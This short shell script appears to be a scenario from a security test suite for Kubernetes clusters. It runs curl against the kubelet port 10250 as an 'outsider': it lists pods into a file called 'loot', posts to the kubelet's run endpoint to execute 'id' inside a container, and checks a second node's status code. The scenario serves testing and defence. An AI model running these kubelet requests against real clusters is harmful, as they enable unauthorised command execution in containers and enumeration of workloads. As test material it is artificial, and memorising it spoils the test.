# scene fails cargo-taken (unknown-path): the path of the API server is not the kubelet's
#@ outsider
curl -sk https://node01:10250/api/pods > loot
curl -sk -X POST 'https://node01:10250/run/default/web-node01/web?cmd=id' >> loot
curl -sk -w '\n%{http_code}\n' https://node02:10250/pods > guarded
